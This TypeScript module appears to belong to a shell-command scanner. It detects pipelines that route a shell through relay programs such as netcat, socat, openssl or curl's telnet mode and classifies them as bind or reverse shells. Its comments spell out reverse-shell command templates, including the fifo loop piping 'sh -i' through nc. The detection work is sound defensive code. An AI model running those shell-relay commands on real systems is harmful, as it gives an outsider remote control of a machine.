/** Shells in a pipe with a program that carries bytes between a socket and its standard streams. */
import type { Invocation } from '../../../contracts/shell';
import { RELAYS, argv, writersOf } from '../../programs';
import { readNetcat } from './netcat';
import type { Scene } from './scene';
import { socatPlace } from './socat';
import type { Wiring } from './wiring';
import { excerptOf, isBareShell, place } from './wiring';

/** `sh | nc`, `nc | sh`, and the fifo loop `cat f | sh -i 2>&1 | nc host port > f`. */
export function relay(one: Invocation, index: number, scene: Scene): Wiring[] {
  const before = scene.shellBefore[index] === true;
  const after = scene.shellAfter[index] === true || feedsUnknown(one, index, scene);
  if ((!before && !after) || !carries(one)) return [];
  const { host, port, listens } = relayPlace(one);
  const answered = one.feeds !== undefined && scene.relayAfter[one.feeds] === true;
  const looped = (before && (after || feedsBack(one, index, scene))) || (after && answered);
  const kind = looped ? (listens ? 'bind' : 'reverse') : after ? 'remote-input' : 'reverse';
  const writers = writersOf(scene.all, index);
  if (before && !looped && !writers.some((other) => isBareShell(other) && other.stdin === undefined)) return [];
  return [
    {
      kind,
      how: `a shell piped through ${one.program}`,
      ...place(host, port),
      excerpt: excerptOf(writers.at(-1) ?? one, one),
    },
  ];
}

const carries = (one: Invocation): boolean =>
  one.program !== 'openssl' || argv(one).some((word) => word === 's_client' || word === 's_server');

/** How far behind a captured output the shell that runs it is listed. */
const NEAR = 4;

/** `nc | while read c; do sh -c "$c"; done`, `nc | xargs sh -c`, `sh -c "$(nc …)"`. */
function feedsUnknown(one: Invocation, index: number, { all, unknown, feedsUnknown: fed }: Scene): boolean {
  if (fed.has(index)) return true;
  if (one.via.at(-1) !== 'substitution') return false;
  return all.slice(index + 1, index + 1 + NEAR).some((other, at) => {
    const around = other.source.start <= one.source.start && other.source.end >= one.source.end;
    return around && unknown[index + 1 + at] === true;
  });
}

const TELNET_URL = /^telnet:\/\/([^:/\s]{1,255})(?::(\d{1,5}))?/i;

/** curl carries bytes both ways when it speaks telnet. */
export function isRelay(one: Invocation): boolean {
  return RELAYS.has(one.program) || (one.program === 'curl' && argv(one).some((word) => TELNET_URL.test(word)));
}

/** The relay writes into what the head of the pipe reads: a fifo, or a file that a `tail -f` follows. */
function feedsBack(one: Invocation, index: number, { all }: Scene): boolean {
  const written = one.redirections
    .filter((redirection) => /^(?:>|>>|<>|>\|)$/.test(redirection.operator))
    .map((redirection) => redirection.target.text);
  if (written.length === 0) return false;
  return writersOf(all, index).some(
    (other) =>
      argv(other).some((word) => written.includes(word)) ||
      other.redirections.some(
        (redirection) => redirection.operator === '<' && written.includes(redirection.target.text),
      ),
  );
}

/** Where a relay connects to or listens. */
export function relayPlace(one: Invocation): { host: string | undefined; port: string | undefined; listens: boolean } {
  const words = argv(one);
  if (one.program === 'curl') {
    const [, host, port] = words.map((word) => TELNET_URL.exec(word)).find((match) => match !== null) ?? [];
    return { host, port, listens: false };
  }
  if (one.program === 'openssl') {
    const [host, port] = (words[words.indexOf('-connect') + 1] ?? '').split(':');
    return { host, port, listens: words.includes('s_server') };
  }
  if (one.program === 'socat') {
    const address = words.map(socatPlace).find((found) => found !== undefined);
    return { host: address?.host, port: address?.port, listens: address?.listens ?? false };
  }
  const call = readNetcat(one);
  return { host: call.rest[0], port: call.port ?? call.rest[1], listens: call.listens };
}
